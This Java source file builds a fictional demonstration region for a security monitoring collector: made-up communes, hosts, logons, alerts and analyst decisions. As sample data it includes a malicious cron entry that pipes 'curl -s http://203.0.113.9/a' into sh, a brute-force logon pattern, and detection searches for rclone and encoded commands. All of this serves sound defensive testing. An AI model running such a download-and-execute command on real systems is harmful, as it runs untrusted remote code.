package bzh.vigie.collector.region;

import bzh.vigie.collector.commune.CommuneNames;
import bzh.vigie.collector.console.route.Parts;
import bzh.vigie.collector.region.SampleHost.Kind;
import bzh.vigie.collector.store.Alerts.Alert;
import bzh.vigie.collector.store.Alerts.Closing;
import bzh.vigie.collector.store.Alerts.Move;
import bzh.vigie.collector.store.Alerts.Step;
import bzh.vigie.collector.store.Author;
import bzh.vigie.collector.store.Commune;
import bzh.vigie.collector.store.Hosts.State;
import bzh.vigie.collector.store.People.Role;
import bzh.vigie.collector.store.Reach;
import bzh.vigie.collector.store.Scope;
import bzh.vigie.collector.store.Store;
import bzh.vigie.collector.store.Tokens.Token;
import bzh.vigie.collector.store.sqlite.SqliteStore;
import bzh.vigie.event.Account;
import bzh.vigie.event.Event;
import bzh.vigie.event.Event.Change;
import bzh.vigie.event.Event.LogonAction;
import bzh.vigie.event.Item;
import bzh.vigie.event.Item.Shipped;
import bzh.vigie.event.Item.Trait;
import bzh.vigie.event.MacAddress;
import bzh.vigie.event.Neighbour;
import bzh.vigie.event.ReasonCode;
import bzh.vigie.event.Sha256;
import bzh.vigie.event.SourceCount;
import bzh.vigie.event.WatchState;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.time.Instant;
import java.time.InstantSource;
import java.time.temporal.ChronoUnit;
import java.util.ArrayList;
import java.util.List;
import java.util.Locale;
import java.util.Optional;
import java.util.Set;
import java.util.stream.Stream;

/**
 * A small region that is made up, in the folder of a collector: six communes that do not exist with ten machines each, twelve days in which
 * people work, alerts of many kinds at every stage of their life, an incident in each phase, returns, exceptions, silent hosts and holes in
 * the coverage. The same at each time; what is there comes about through detection and the store's own writers.
 */
public final class SampleRegion {
    private static final String NAMES = """
            29991 Plouessai
            22991 Kerveille
            56991 Lannexemple
            35991 Tréfictif
            29992 Porzvigie
            56992 Saint-Modèle
            """;

    /** Communes that do not exist, under codes that are given to none. */
    public static final List<Commune> COMMUNES = Stream.of("29991", "22991", "56991", "35991", "29992", "56992")
            .map(Commune::new)
            .toList();

    static final Author ANALYST = new Author("Analyste de permanence", "vu avec la mairie");
    static final Author LEAD = new Author("Cheffe de veille", "décidé en point du matin");
    private static final Author ADMINISTRATOR = new Author("Administration", "démonstration");

    private static final List<String> PREFIXES = List.of("PLO", "KER", "LAN", "TRE", "POR", "MOD");
    private static final int DAYS = 12;
    private static final Duration HOUR = Duration.ofHours(1);
    private static final Duration DAY = Duration.ofDays(1);

    private final Scene scene;
    private final Instant end;
    private final List<SampleHost> hosts = new ArrayList<>();

    private SampleRegion(Scene scene, Instant end) {
        this.scene = scene;
        this.end = end;
        for (int commune = 0; commune < COMMUNES.size(); commune++) {
            for (int i = 0; i < 10; i++) {
                Kind kind = i == 0 ? Kind.CONTROLLER : i == 1 ? Kind.LINUX_SERVER : Kind.PC;
                String name = PREFIXES.get(commune)
                        + (kind == Kind.CONTROLLER ? "-DC1" : kind == Kind.LINUX_SERVER ? "-WEB1" : "-PC0" + (i - 1));
                int number = hosts.size() + 1;
                hosts.add(new SampleHost(
                        number,
                        COMMUNES.get(commune),
                        kind == Kind.LINUX_SERVER ? name.toLowerCase(Locale.ROOT) : name,
                        kind,
                        kind == Kind.PC
                                ? new Account(
                                        "S-1-5-21-11-22-33-" + (1_100 + number),
                                        "agent." + name.toLowerCase(Locale.ROOT))
                                : new Account("1000", "technique")));
            }
        }
    }

    /**
     * Fills the folder of a collector that does not run.
     *
     * @param folder with the folders {@code state} and {@code history}, made where they are missing
     * @param now when the story ends
     */
    public static void fill(Path folder, Instant now) throws IOException {
        Files.createDirectories(folder);
        Files.writeString(folder.resolve(Parts.DEMONSTRATION), "");
        Files.writeString(folder.resolve(CommuneNames.FILE), NAMES);
        Instant end = now.truncatedTo(ChronoUnit.SECONDS).minusSeconds(5);
        try (Scene scene = new Scene(folder, end.minus(Duration.ofDays(DAYS)))) {
            new SampleRegion(scene, end).tell();
        }
    }

    /** Arguments: the folder of a collector that does not run; or one that runs, and {@code --alive}, to be a sign of life of most hosts. */
    public static void main(String... arguments) throws IOException, InterruptedException {
        Path folder = Path.of(arguments[0]);
        if (arguments.length == 1) {
            fill(folder, Instant.now());
            return;
        }
        try (Store store = SqliteStore.open(folder.resolve("state"), InstantSource.system())) {
            while (true) {
                live(store, Instant.now());
                Thread.sleep(Duration.ofSeconds(60));
            }
        }
    }

    /** Those that are there are heard. */
    private static void live(Store store, Instant now) {
        store.change(s -> {
            for (Commune commune : COMMUNES) {
                s.hosts().all(new Scope.Communes(Set.of(commune))).stream()
                        .filter(host -> host.state() == State.ACTIVE)
                        .filter(host -> host.lastSeen()
                                .filter(seen -> seen.isAfter(now.minus(DAY)))
                                .isPresent())
                        .forEach(host -> s.hosts()
                                .hello(
                                        host.id(),
                                        host.hostname(),
                                        host.facts(),
                                        host.version(),
                                        host.bootId(),
                                        host.runId(),
                                        0,
                                        now));
            }
        });
    }

    private SampleHost host(int commune, int place) {
        return hosts.get(commune * 10 + place);
    }

    private Instant day(int day, int hour) {
        return end.minus(DAY.multipliedBy(DAYS - day)).plus(HOUR.multipliedBy(hour));
    }

    private void tell() {
        people();
        install();
        SampleIncidents incidents = new SampleIncidents(scene, this::host);
        for (int day = 0; day < DAYS; day++) {
            scene.at(day(day, 1));
            work(day);
            scene.at(day(day, 9));
            happens(day);
            incidents.happens(day);
            scene.at(day(day, 12));
            decide(day);
        }
        scene.at(end);
        last();
    }

    private void people() {
        scene.decide(s -> {
            s.people().add(ANALYST.name(), Role.ANALYST, Scene.ALL, ADMINISTRATOR);
            s.people().add(LEAD.name(), Role.LEAD, Scene.ALL, ADMINISTRATOR);
            s.people()
                    .add(
                            "Mairie de Plouessai",
                            Role.COMMUNE_READER,
                            new Scope.Communes(Set.of(COMMUNES.getFirst())),
                            ADMINISTRATOR);
            s.people().add("Contrôle interne", Role.AUDITOR, Scene.ALL, ADMINISTRATOR);
            s.people().add(ADMINISTRATOR.name(), Role.ADMINISTRATOR, Scene.ALL, ADMINISTRATOR);
            token(s, "00000000000000a1", 0, 20, 14, false);
            token(s, "00000000000000a2", 1, 5, 30, true);
            token(s, "00000000000000a3", 2, 1, 1, false);
            s.tokens().revoke("00000000000000a3", ADMINISTRATOR);
            s.savedSearches().save("Copie vers un nuage", "CommandLine:*rclone*", true, ANALYST);
            s.savedSearches().save("Sorties vers 203.0.113.0/24", "DestinationIp:203.0.113.0/24", true, ANALYST);
            s.savedSearches().save("Commandes encodées", "kind:process-started CommandLine:*-enc*", true, LEAD);
        });
    }

    private void token(Store.Session s, String id, int commune, int uses, int days, boolean approval) {
        s.tokens()
                .create(
                        new Token(
                                id,
                                Sha256.over(id.getBytes(StandardCharsets.UTF_8)),
                                COMMUNES.get(commune),
                                uses,
                                0,
                                scene.now(),
                                scene.now().plus(Duration.ofDays(DAYS + days)),
                                approval,
                                false),
                        ADMINISTRATOR);
    }

    private void install() {
        scene.decide(s -> {
            for (SampleHost host : hosts) {
                s.hosts().enrol(host.enrolled(scene.now(), State.ACTIVE, host.number() % 9 == 4 ? "0.0.9" : "0.1.0"));
            }
        });
        for (SampleHost host : hosts) {
            List<Event> events = new ArrayList<>();
            List<Item> items = SampleItems.ordinary(host);
            items.forEach(item -> events.add(scene.seen(host, Change.PRESENT, item)));
            List<String> places = host.windows()
                    ? List.of(
                            "windows.service",
                            "windows.task.definition",
                            "windows.run-key.machine",
                            "windows.defender.exclusion",
                            "windows.remote.tool")
                    : List.of("linux.systemd.service", "linux.cron.d", "linux.ssh.authorized-keys");
            for (String place : places) {
                int many = (int) items.stream()
                        .filter(item -> item.location().equals(place))
                        .count();
                events.add(scene.read(host, place, many));
            }
            scene.tells(host, events);
        }
    }

    /** Silent since some days: off, broken or gone. */
    private static boolean isSilent(SampleHost host, int day) {
        return host.kind() == Kind.PC && ((host.number() % 17 == 9 && day >= 6) || (host.number() == 40 && day >= 3));
    }

    private boolean isThere(SampleHost host, int day) {
        return !isSilent(host, day);
    }

    /** A day at work: machines run, people log on, programs start. */
    private void work(int day) {
        for (SampleHost host : hosts) {
            if (!isThere(host, day)) {
                continue;
            }
            Duration on = host.server() ? DAY : Duration.ofHours(10);
            List<Event> events = new ArrayList<>();
            events.add(SampleEvents.coverage(
                    scene, host, host.source("persistence"), on, WatchState.LIVE, ReasonCode.NONE));
            boolean broken = host.number() == 23 && day > 7;
            events.add(SampleEvents.coverage(
                    scene,
                    host,
                    host.source("process"),
                    on,
                    broken ? WatchState.DOWN : WatchState.LIVE,
                    broken ? ReasonCode.FAILED : ReasonCode.NONE));
            if (broken) {
                events.add(new Event.SourceState(
                        scene.moment(host), host.source("process"), WatchState.DOWN, ReasonCode.FAILED, ""));
            }
            events.add(SampleEvents.logon(scene, host, host.user(), LogonAction.LOGON, ""));
            events.addAll(SampleEvents.programs(scene, host, day));
            if (host.server() && day % 3 == 0) {
                events.add(neighbours(host));
            }
            scene.tells(host, events);
        }
        int commune = day % COMMUNES.size();
        scene.decide(s -> hosts.stream()
                .filter(host -> isThere(host, day) && (host.number() - 1) / 10 == commune && !host.server())
                .forEach(host -> s.coverage()
                        .gap(host.id(), day(day, 0).minus(Duration.ofHours(12)), day(day, 0), "shut-down")));
    }

    private Event neighbours(SampleHost by) {
        long now = scene.moment(by).wallMicros();
        List<Neighbour> seen = new ArrayList<>();
        for (String name : List.of("IMPRIMANTE-ACCUEIL", "PC-ARCHIVES")) {
            seen.add(new Neighbour(
                    Neighbour.Origin.CACHE,
                    Optional.empty(),
                    Optional.of(new MacAddress(0x001C_4200_0000L + by.number() * 16L + name.length())),
                    name,
                    now,
                    now));
        }
        return new Event.NeighboursSeen(scene.moment(by), by.source("network"), seen);
    }

    /** What asks for a person and has to do with no incident. */
    private void happens(int day) {
        switch (day) {
            case 2 -> {
                for (int commune : List.of(0, 1, 3)) {
                    for (int place = 3; place < 7; place++) {
                        scene.shows(host(commune, place), Change.ADDED, SampleItems.supervision());
                    }
                }
            }
            case 4 -> {
                scene.shows(host(4, 5), Change.ADDED, SampleItems.remoteTool("TeleAide", "44-55-66"));
                scene.shows(
                        host(5, 1),
                        Change.ADDED,
                        SampleItems.key(
                                "technique", "SHA256:9dEexampleexampleexampleexampleexampleexamp prestataire", true));
            }
            case 6 -> {
                scene.shows(host(1, 4), Change.ADDED, SampleItems.exclusion("C:\\Comptes"));
                scene.shows(
                        host(3, 2),
                        Change.REMOVED,
                        SampleItems.run("Agenda", "C:\\Program Files\\Agenda\\agenda.exe", "Agenda Mairies SAS"));
                scene.tells(host(2, 0), SampleEvents.created(scene, host(2, 0), "stagiaire.accueil"));
            }
            case 8 -> {
                scene.tells(
                        host(5, 3),
                        new Event.Loss(
                                scene.moment(host(5, 3)),
                                "agent.spool",
                                3,
                                1,
                                9,
                                List.of(new SourceCount("windows.process", 480, 1, 2)),
                                ReasonCode.OVERLOADED,
                                ""));
                scene.shows(
                        host(4, 1), Change.ADDED, SampleItems.cron("releve", "/opt/releve/releve", Shipped.UNOWNED));
            }
            case 10 -> {
                for (int place = 7; place < 10; place++) {
                    scene.shows(host(3, place), Change.ADDED, SampleItems.supervision());
                }
                scene.shows(host(2, 4), Change.ADDED, SampleItems.remoteTool("TeleAide", "44-55-66"));
                for (int i = 0; i < 12; i++) {
                    scene.tells(
                            host(5, 1),
                            SampleEvents.logon(
                                    scene,
                                    host(5, 1),
                                    new Account("1000", "technique"),
                                    LogonAction.FAILED,
                                    "203.0.113.77"));
                }
                scene.tells(
                        host(5, 1),
                        SampleEvents.logon(
                                scene,
                                host(5, 1),
                                new Account("1000", "technique"),
                                LogonAction.LOGON,
                                "203.0.113.77"));
            }
            case 11 -> {
                scene.shows(
                        host(4, 1),
                        Change.ADDED,
                        SampleItems.cron(
                                "maj",
                                "curl -s http://203.0.113.9/a | sh",
                                Shipped.UNOWNED,
                                Trait.NETWORK_TOOL,
                                Trait.INLINE_SCRIPT));
                scene.shows(host(1, 6), Change.ADDED, SampleItems.run("Carte", "C:\\Users\\Public\\carte.exe", ""));
            }
            default -> {}
        }
    }

    /** What people say of alerts. */
    private void decide(int day) {
        switch (day) {
            case 3 -> {
                move("vigie-ordinary-items", Move.close(Closing.EXPECTED), ANALYST);
                scene.decide(s -> s.alertExceptions()
                        .add(
                                Scene.ALL,
                                true,
                                new Reach(
                                        "vigie-windows-added",
                                        Optional.of("Armor Informatique"),
                                        Optional.empty(),
                                        Optional.empty(),
                                        Optional.empty(),
                                        Optional.empty(),
                                        Optional.empty()),
                                end.plus(Duration.ofDays(4)),
                                new Author(LEAD.name(), "déploiement annoncé du prestataire")));
            }
            case 5 -> {
                move("vigie-windows-remote-tool-added", Move.of(Step.ACKNOWLEDGED), ANALYST);
                move("vigie-linux-key-added", Move.assign(LEAD.name()), ANALYST);
            }
            case 7 -> {
                move(
                        "vigie-windows-exclusion",
                        Move.of(Step.COMMENTED),
                        new Author(ANALYST.name(), "demandé au prestataire"));
                move("vigie-item-removed", Move.close(Closing.FALSE_ALARM), ANALYST);
                move("vigie-account-created", Move.assign(ANALYST.name()), ANALYST);
            }
            case 9 -> {
                move("vigie-events-lost", Move.close(Closing.TRUE), LEAD);
                scene.decide(s -> {
                    long number = s.alertExceptions()
                            .add(
                                    Scene.ALL,
                                    false,
                                    new Reach(
                                            "vigie-linux-by-hand",
                                            Optional.empty(),
                                            Optional.of("/etc/cron.d/releve*"),
                                            Optional.empty(),
                                            Optional.empty(),
                                            Optional.of(COMMUNES.get(4)),
                                            Optional.empty()),
                                    end.plus(Duration.ofDays(60)),
                                    new Author(ANALYST.name(), "relevé des compteurs, connu"));
                    s.alertExceptions().end(Scene.ALL, number, new Author(LEAD.name(), "le relevé a été retiré"));
                });
            }
            default -> {}
        }
    }

    private void move(String rule, Move move, Author author) {
        scene.decide(s -> {
            for (Alert alert : s.alerts().list(Scene.ALL, Optional.empty(), 500)) {
                if (alert.rule().equals(rule) && alert.status().isOpen()) {
                    s.alerts().decide(Scene.ALL, alert.id(), move, author);
                }
            }
        });
    }

    /** Who is there, who waits, who was shut out. */
    private void last() {
        scene.decide(s -> {
            for (SampleHost host : hosts) {
                int silentSince = 0;
                while (silentSince < DAYS && isThere(host, silentSince)) {
                    silentSince++;
                }
                Instant heard = silentSince == DAYS ? end : day(silentSince - 1, 11);
                s.hosts()
                        .hello(
                                host.id(),
                                host.name(),
                                host.facts(),
                                host.number() % 9 == 4 ? "0.0.9" : "0.1.0",
                                "boot-" + host.number(),
                                "run-" + host.number(),
                                host.number() == 12 ? Duration.ofMinutes(-190).toMillis() * 1_000 : 0,
                                heard);
                if (silentSince < DAYS) {
                    s.hosts().disconnected(host.id());
                }
            }
            for (int commune = 0; commune < 2; commune++) {
                SampleHost fresh = new SampleHost(
                        hosts.size() + 1 + commune,
                        COMMUNES.get(commune),
                        PREFIXES.get(commune) + "-NEUF1",
                        Kind.PC,
                        new Account("S-1-5-21-11-22-33-1999", "agent.accueil"));
                s.hosts().enrol(fresh.enrolled(end.minus(HOUR.multipliedBy(3)), State.WAITING_FOR_APPROVAL, "0.1.0"));
            }
            s.hosts().state(host(5, 9).id(), State.REVOKED, new Author(LEAD.name(), "poste volé"));
        });
    }
}
